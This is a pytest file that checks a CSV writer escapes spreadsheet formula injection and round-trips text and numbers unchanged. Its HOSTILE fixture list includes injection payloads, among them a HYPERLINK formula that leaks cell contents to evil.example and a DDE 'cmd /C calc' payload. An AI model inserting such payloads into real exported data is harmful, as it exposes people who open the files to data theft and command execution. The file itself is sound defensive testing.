"""Tables that are opened with a spreadsheet: what is text stays text, and comes back as it was."""

import csv
import io
import random

import pandas as pd
import pytest

from xsleep.core.errors import InputError
from xsleep.core.files import read_csv, read_table, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "'=1",
    "''@x",
    "-",
    "-a b",
]
PLAIN = ["-1.5", "+2", "-inf", "1e-3", "", "N2", "s{2}", "it's", "'quoted'", " =1", "-0", "'-5"]


def cells(path):
    with path.open(newline="", encoding="utf-8") as file:
        return [row["name"] for row in csv.DictReader(file)]


@pytest.mark.parametrize("as_table", [False, True])
def test_what_a_spreadsheet_would_compute_is_text_and_reads_back(tmp_path, as_table):
    path = tmp_path / "a.csv"
    rows = [{"name": name, "n": 1} for name in HOSTILE]
    write_csv(path, pd.DataFrame(rows) if as_table else rows)
    assert cells(path) == [f"'{name}" for name in HOSTILE]
    assert [row["name"] for row in read_csv(path)] == HOSTILE
    assert [*read_table(path)["name"]] == HOSTILE


@pytest.mark.parametrize("as_table", [False, True])
def test_numbers_and_other_text_are_written_as_they_are(tmp_path, as_table):
    path = tmp_path / "a.csv"
    rows = [{"name": name} for name in PLAIN[:-1]]
    write_csv(path, pd.DataFrame(rows) if as_table else rows)
    assert cells(path) == PLAIN[:-1]
    assert [row["name"] for row in read_csv(path)] == PLAIN[:-1]


def test_numbers_of_a_table_are_not_touched(tmp_path):
    table = pd.DataFrame({"i": [-1, 2], "f": [-0.5, None], "o": [-1, None]})
    table["big"] = pd.array([-1, None], dtype="Int64")
    write_csv(tmp_path / "a.csv", table)
    expected = io.StringIO()
    table.to_csv(expected, index=False, lineterminator="\n")
    assert (tmp_path / "a.csv").read_text() == expected.getvalue()
    for empty in (pd.DataFrame(), pd.DataFrame(columns=["a", "b"])):
        write_csv(tmp_path / "b.csv", empty)
        assert (tmp_path / "b.csv").read_text() == empty.to_csv(index=False)


def test_every_text_reads_back_as_it_was(tmp_path):
    draw = random.Random(1)
    names = ["".join(draw.choices("'=+-@\t1.e a,\"\n", k=draw.randint(1, 6))) for _ in range(5000)]
    path = tmp_path / "a.csv"
    write_csv(path, [{"name": name, "n": 1} for name in names])
    assert [row["name"] for row in read_csv(path)] == names
    assert [*read_table(path)["name"]] == names


@pytest.mark.parametrize("read", (read_csv, read_table))
@pytest.mark.parametrize("content", (b"", b"a,b\n1,2\n3", b"a,b\n1\n", bytes(9), b"\xff\n", None))
def test_a_table_that_is_not_as_it_was_written_is_one_line(tmp_path, read, content):
    path = tmp_path / "a.csv"
    path.mkdir() if content is None else path.write_bytes(content)
    with pytest.raises(InputError, match=rf"^{path}: not as it was written \(.*\); delete it, run"):
        read(path)
